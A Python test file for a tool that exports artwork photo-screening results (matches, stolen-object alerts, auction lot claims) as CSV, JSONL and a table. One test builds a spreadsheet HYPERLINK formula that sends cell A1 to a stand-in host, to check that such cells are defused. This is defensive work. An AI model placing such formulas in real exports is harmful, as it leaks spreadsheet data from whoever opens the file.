"""The lines of a screening: JSON, CSV that a spreadsheet opens without running anything, and the table."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.records.artifact_1 import alerts, undecided
from cli.records.lines import CSV_COLUMNS, _remarks, defused, each_work, render_csv, render_jsonl, render_table
from tests.records import match_record, photograph_record, work_record

FIRST = [
    *("photo", "outcome", "object_id", "distance", "match_threshold", "authenticity_threshold", "local_distance"),
    *("local_threshold", "reasons", "sha256", "error", "combined_distance", "combined_threshold"),
    *("likelihood_ratio", "p_value"),
]
MORE = [
    *("priority", "alert", "status", "lot", "sale", "house", "claim", "claim_outcome", "maker", "url", "lot_columns"),
    *("same_as", "seen_before", "region", "picture", "decided_by", "deciding_distance", "deciding_threshold", "title"),
    *("review", "said"),
    *("alert_certainty", "alert_object", "register_entry", "lead"),
    *("together_outcome", "together_photos", "together_distance", "together_threshold", "together_reasons"),
]
EARLIER = {
    "date": "2025-03-01T09:00:00+00:00",
    "photo": "/march/1.jpg",
    "lot": {"lot": "12", "house": "Koller", "note": "x"},
    "verdict": 3,
    "by": "photo",
}


def work(outcome: str = "consistent", **changed: Any) -> dict[str, Any]:
    places = {"local": 0.3, "threshold": 0.5, "combined": 0.36, "combined_threshold": 0.45, "places": []}
    said = {"region": [0, 5, 30, 20], "reasons": ["within", "calibrated"], "likelihood_ratio": 2.5}
    return work_record(outcome, match_record(distance=0.2, divergence=places), **said) | changed


def record(*works: dict[str, Any], **changed: Any) -> dict[str, Any]:
    return photograph_record("a.jpg", *works) | changed


def rows(*records: dict[str, Any], bom: bool = False) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(render_csv(each_work(records), bom=bom)))))


def test_the_columns_keep_their_order_and_new_ones_follow() -> None:
    assert list(CSV_COLUMNS) == FIRST + MORE
    assert list(rows(record(work()))[0]) == FIRST + MORE


def test_a_row_says_what_was_judged() -> None:
    (row,) = rows(record(work(alert="stolen", status="Stolen")))
    assert {name: text for name, text in row.items() if text} == {
        "photo": "a.jpg",
        "outcome": "consistent",
        "object_id": "7",
        "distance": "0.2",
        "match_threshold": "0.8",
        "authenticity_threshold": "0.4",
        "local_distance": "0.3",
        "local_threshold": "0.5",
        "reasons": "within; calibrated",
        "sha256": "00ff",
        "combined_distance": "0.36",
        "combined_threshold": "0.45",
        "likelihood_ratio": "2.5",
        "priority": "stolen",
        "alert": "stolen",
        "status": "Stolen",
        "region": "0 5 30 20",
        "decided_by": "combined",
        "deciding_distance": "0.36",
        "deciding_threshold": "0.45",
        "said": "The same picture as 7; nothing that differs was found.",
        "alert_object": "7",
    }


def test_the_distance_that_decides_is_named_whichever_it_is() -> None:
    (row,) = rows(record(work_record("divergent", match_record(distance=0.6))))
    named = [row[name] for name in ("decided_by", "deciding_distance", "deciding_threshold")]
    assert named == ["global", "0.6", "0.4"]


def test_an_unknown_work_names_no_object() -> None:
    given = record(work_record("no-match", match_record("7", 1.1)))
    (row,) = rows(given)
    assert (row["object_id"], row["status"], row["decided_by"], row["distance"]) == ("", "", "global", "1.1")
    assert list(render_table(each_work([given])))[1].split() == ["no-match", "global", "1.100", "a.jpg"]


def test_every_work_has_a_row_in_the_order_given_and_so_has_an_unreadable_photograph() -> None:
    found = rows(record(work("no-match"), work("divergent")), record(error="truncated", sha256=None))
    assert [(row["outcome"], row["priority"], row["error"]) for row in found] == [
        ("no-match", "no-match", ""),
        ("divergent", "divergent", ""),
        ("unreadable", "unreadable", "truncated"),
    ]


def test_works_are_written_in_whatever_order_they_come() -> None:
    first, second = record(work("no-match"), work("divergent")), record(error="truncated", photo="b.jpg")
    lines = list(render_csv([(second, None), (first, 1), (first, 0)], bom=False))
    assert [line.split(",")[:2] for line in lines[1:]] == [
        ["b.jpg", "unreadable"],
        ["a.jpg", "divergent"],
        ["a.jpg", "no-match"],
    ]


def test_the_lot_is_kept_and_its_claim_answered() -> None:
    lot = {"lot": "12", "sale": "May", "house": "Koller", "claim": "K 7", "maker": "N. N.", "url": "https://x.org/1"}
    judged = {"claimed": "K 7", "object_id": "7", "work": work("divergent"), "reason": None}
    (row,) = rows(record(work("no-match"), lot=lot | {"höhe": "12 cm", "note": ""}, claim=judged))
    assert {name: row[name] for name in lot} == lot
    assert json.loads(row["lot_columns"]) == {"höhe": "12 cm", "note": ""}
    assert (row["claim_outcome"], row["priority"]) == ("divergent", "claim not upheld")
    unknown = {"claimed": "K 8", "object_id": None, "work": None, "reason": "there is no object K 8"}
    (row,) = rows(record(work(), lot=lot, claim=unknown))
    assert (row["claim"], row["claim_outcome"], row["lot_columns"]) == ("K 8", "there is no object K 8", "")


def test_what_is_the_same_and_what_was_seen_before_is_said() -> None:
    (row,) = rows(record(work(), same_as="b.jpg", seen_before=[EARLIER, EARLIER | {"by": "object", "lot": None}]))
    assert row["same_as"] == "b.jpg"
    assert row["seen_before"] == (
        "this photograph on 2025-03-01: lot 12, house Koller, verdict 3; "
        "this object on 2025-03-01: /march/1.jpg, verdict 3"
    )


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_cell_that_starts_like_a_formula_is_defused(sign: str) -> None:
    formula = f'{sign}HYPERLINK("http://x.org/?"&A1, "1")'
    (row,) = rows(
        record(work(reasons=[formula], status=formula), photo=formula, error=formula, lot={"lot": formula, sign: "1"})
    )
    assert [row[name] for name in ("photo", "reasons", "status", "error", "lot")] == [f"'{formula}"] * 5
    assert row["lot_columns"].startswith("{")
    assert defused(f"1{formula}") == f"1{formula}"


@pytest.mark.parametrize("number", ["-0.5", "+3", "-12", "1e-05", "-1E+3", "", "0", "٣"])
def test_a_plain_number_stays_a_number(number: str) -> None:
    assert defused(number) == number


@pytest.mark.parametrize("text", ["-0.5+1", "-1-1", "+44 20 7946", "--1", "-.", "-", "-0.5\n", "-1e", "-٣", "-1;2"])
def test_what_only_begins_like_a_number_is_defused(text: str) -> None:
    assert defused(text) == f"'{text}"


@given(st.lists(st.text(), min_size=3, max_size=3))
def test_any_text_comes_back_as_one_cell_that_is_no_formula(texts: list[str]) -> None:
    photo, reason, maker = texts
    (row,) = rows(record(work(reasons=[reason]), photo=photo, lot={"maker": maker}))
    for text, cell in zip(texts, (row["photo"], row["reasons"], row["maker"]), strict=True):
        assert cell in (kept := text.encode(errors="replace").decode(), f"'{kept}")
        assert cell == "" or cell[0] not in "=@\t\r\n"


def test_a_mark_says_that_it_is_utf_8_where_that_is_wanted() -> None:
    with_mark, without = (
        "".join(render_csv([(record(work(), photo="Ä\udcff.jpg"), 0)], bom=bom)) for bom in (True, False)
    )
    assert with_mark == "\ufeff" + without
    assert with_mark.encode().startswith(b"\xef\xbb\xbfphoto,outcome,")
    assert without.splitlines()[1].startswith("Ä?.jpg,consistent,")


def test_jsonl_gives_the_records_back() -> None:
    given = [record(work(), photo="Ä\n\udcff"), record(error="x")]
    lines = list(render_jsonl(given))
    assert [json.loads(line) for line in lines] == given
    assert all(line.isascii() and line.count("\n") == 1 for line in lines)


def test_an_alert_stands_in_the_table_in_place_of_the_outcome() -> None:
    given = [
        record(work(alert="known forgery"), work("no-match", matches=[])),
        record(error="truncated", photo="b\n.jpg"),
    ]
    heading, *lines = render_table(each_work(given))
    assert heading.split() == ["outcome", "distance", "object", "photo"]
    assert lines[0] == "KNOWN FORGERY combined 0.360 7            a.jpg\n"
    assert lines[1].split() == ["no-match", "a.jpg"]
    assert lines[2].split() == ["unreadable", "b\ufffd.jpg"] and lines[3] == "    truncated\n"
    assert len({line.index(".jpg") for line in lines[:2]}) == 1


def test_an_undecided_alert_has_a_question_mark_its_object_and_red_where_that_is_wanted() -> None:
    entry = {"object_id": "8"} | dict.fromkeys(("case_number", "theft_date", "theft_place", "authority", "contact"), "")
    judged = work("divergent", alert="stolen", alert_certainty="undecided", register_entry=entry)
    given = [record(judged, work())]
    _, alert, fine = render_table(each_work(given), colour=True)
    assert alert.startswith("\x1b[31m\x1b[1mSTOLEN?") and alert.endswith(" a.jpg\x1b[0m\n") and " 8 " in alert
    assert fine.startswith("consistent") and "\x1b" not in "".join(render_table(each_work(given)))


def test_a_lead_is_said_below_what_is_judged() -> None:
    near = work("divergent", lead={"object_id": "9", "status": "Stolen 2003"})
    *_, said = render_table(each_work([record(near)]))
    assert said.strip().startswith("lead, near to 9, Stolen 2003")


def test_the_table_says_what_else_is_known_of_a_photograph() -> None:
    judged = {"claimed": "K 7", "object_id": "7", "work": work("divergent"), "reason": None}
    unknown = {"claimed": "K 8", "object_id": None, "work": None, "reason": "there is no object K 8"}
    lot = {"lot": "5", "title": "A Harbour"}
    first = record(work(), lot=lot, same_as="b.jpg", claim=judged, seen_before=[EARLIER, EARLIER])
    _, line, below, second, last = render_table(each_work([first, record(work(), claim=unknown)]))
    assert line.endswith(" a.jpg\n") and second == line
    assert below == (
        "    lot 5, A Harbour; same file as b.jpg; claimed K 7, divergent; "
        "seen before, this photograph on 2025-03-01: lot 12, house Koller, verdict 3 (and 1 more)\n"
    )
    assert last == "    claimed K 8, there is no object K 8\n"


def test_a_row_of_the_table_says_what_is_of_its_own_work_only():
    review = {"verdict": 1, "date": "2026-01-01", "name": "J. Doe", "outcome": "consistent"}
    review |= {"object_id": "b", "reason": "", "settles": False}
    entry = {"object_id": "a", "status": "stolen", "case_number": "7", "theft_date": "", "theft_place": ""}
    entry |= {"authority": "Police", "contact": "p@example.org"}
    one = work_record("consistent", match_record("a", 0.1), alert="stolen", register_entry=entry)
    other = work_record("divergent", match_record("b", 0.1), review=review, lead=entry | {"object_id": "c"})
    record = photograph_record("wall.jpg", one, other)
    first, second = ("; ".join(_remarks(record, work)) for work in (one, other))
    assert first == "case 7; authority Police; contact p@example.org"
    assert "lead, near to c" in second and "J. Doe" in second and "Police" not in second


def test_an_alert_of_the_claimed_object_is_another_one_where_the_object_is():
    entry = {"object_id": "a", "status": "stolen"}
    work = work_record("consistent", match_record("a", 0.1), alert="stolen", register_entry=entry)
    claimed = work_record("divergent", match_record("b", 0.4), alert="stolen", alert_certainty="undecided")
    record = photograph_record("a.jpg", work)
    for judged, count in ((claimed, 2), (work, 1)):
        record["claim"] = {"claimed": "x", "object_id": "x", "work": judged, "reason": None}
        assert [alerts(record), undecided(record)] == [["stolen"] * count, count - 1]
